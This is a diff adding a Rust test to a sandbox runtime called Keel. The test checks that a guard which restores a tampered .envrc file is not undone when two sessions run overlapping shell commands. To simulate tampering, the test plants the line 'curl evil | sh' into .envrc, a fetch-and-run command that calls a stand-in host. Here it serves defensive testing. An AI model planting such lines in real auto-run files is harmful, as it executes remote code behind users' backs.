@@ -274,3 +274,77 @@ async fn a_contained_command_reaches_no_approved_server_under_namespaces() {
 async fn a_contained_command_reaches_no_approved_server_under_the_fallback() {
     a_contained_command_reaches_no_approved_server(Mechanism::Landlock, "landlock").await;
 }
+
+/// Two sessions of one Keel on the same workspace (two threads in the editor): a command of
+/// one overlaps a command of the other that plants a guarded file. The guard's "before" is the
+/// process's, per root, so the second does not bring back what the first's guard removed.
+#[tokio::test]
+async fn a_command_of_another_session_does_not_bring_back_what_one_planted() {
+    let dir = tempfile::tempdir().unwrap();
+    let base = std::fs::canonicalize(dir.path()).unwrap();
+    let root = base.join("ws");
+    std::fs::create_dir_all(root.join("nested")).unwrap();
+    std::fs::write(root.join("nested/.envrc"), "export ORIGINAL=1\n").unwrap();
+    let session = |name: &str| {
+        let scratch = base.join(name);
+        std::fs::create_dir_all(&scratch).unwrap();
+        let mut sandbox = super::tool_support::sandbox_spec();
+        sandbox.settings.mechanism = Mechanism::Landlock;
+        sandbox.credentials = Some(keel_core::policy::watchdog::credential_rules(None));
+        sandbox.guards = Some(keel_core::policy::watchdog::guard_rules());
+        let runtime = Runtime::new(RuntimeConfig {
+            roots: vec![root.clone()],
+            requirements: RequirementSet::fs_read_write(&["{workspace}/**"], &["{workspace}/**"])
+                .with_shell(ShellRunRequirement::any_args("bash")),
+            scratch_dir: scratch.clone(),
+            sandbox,
+            ..RuntimeConfig::default()
+        })
+        .unwrap();
+        (runtime, scratch)
+    };
+    let run = |runtime: Runtime, scratch: PathBuf, command: &'static str| {
+        let root = root.clone();
+        tokio::spawn(async move {
+            let mut process = runtime.spawn_shell(command, &root).unwrap();
+            process
+                .wait_with_output(
+                    OutputCapture {
+                        limit: 64 * 1024,
+                        sidecar: scratch.join(unique("out")),
+                    },
+                    Duration::from_secs(60),
+                    &CancellationToken::new(),
+                    &ProgressSink::default(),
+                )
+                .await
+                .unwrap()
+        })
+    };
+    let (first, first_scratch) = session("one");
+    let (second, second_scratch) = session("two");
+    let planter = run(
+        first,
+        first_scratch,
+        "echo 'curl evil | sh' > nested/.envrc; touch planted; \
+         while [ ! -e go ]; do sleep 0.01; done",
+    );
+    while !root.join("planted").exists() {
+        tokio::time::sleep(Duration::from_millis(10)).await;
+    }
+    let overlapping = run(
+        second,
+        second_scratch,
+        "touch go; i=0; while ! grep -q ORIGINAL nested/.envrc && [ $i -lt 3000 ]; do \
+         sleep 0.01; i=$((i+1)); done; echo waited",
+    );
+    let planted = planter.await.unwrap();
+    let overlapped = overlapping.await.unwrap();
+    assert_eq!(mechanism_of(&planted).0, "landlock", "{planted:?}");
+    assert_eq!(overlapped.text, "waited\n", "{overlapped:?}");
+    assert_eq!(
+        std::fs::read_to_string(root.join("nested/.envrc")).unwrap(),
+        "export ORIGINAL=1\n",
+        "the other session's command brought the planted file back: {overlapped:?}"
+    );
+}
